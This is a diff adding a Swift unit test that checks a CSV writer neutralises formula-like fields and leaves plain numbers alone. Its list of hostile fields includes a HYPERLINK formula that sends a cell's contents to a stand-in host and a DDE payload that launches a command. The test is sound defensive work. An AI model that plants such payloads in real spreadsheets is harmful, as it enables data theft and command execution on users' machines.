@@ -1,5 +1,6 @@
-import EnlaceInterop
 import Testing
+
+@testable import EnlaceInterop
 
 @Suite("CSV text")
 struct CSVTextTests {
@@ -21,5 +22,19 @@ struct CSVTextTests {
         let text = try CSVText.write([["a", "b", "c", "d"], ["=HYPERLINK(\"x\")", "+1", "@SUM(A1)", "-2"]])
         let row = try CSVText.read(text).rows[0]
         #expect(row == ["'=HYPERLINK(\"x\")", "'+1", "'@SUM(A1)", "-2"])
+    }
+
+    @Test("every field that starts like a formula is inert unless it is a plain number")
+    func formulasBehindNumbers() throws {
+        let hostile = [
+            "-1+HYPERLINK(\"https://evil.example/?\"&D2,\"x\")", "-2-cmd|' /C calc'!A0", "+1+1", "-.5+A1", "\t=1",
+            "\r=1", "@x", "=1",
+        ]
+        for field in hostile {
+            #expect(CSVText.neutralised(field).hasPrefix("'"), "\(field) is written as it is")
+        }
+        for number in ["-2", "-12.5", "0.75", "-0.001", "42"] {
+            #expect(CSVText.neutralised(number) == number, "\(number) is a number and stays one")
+        }
     }
 }
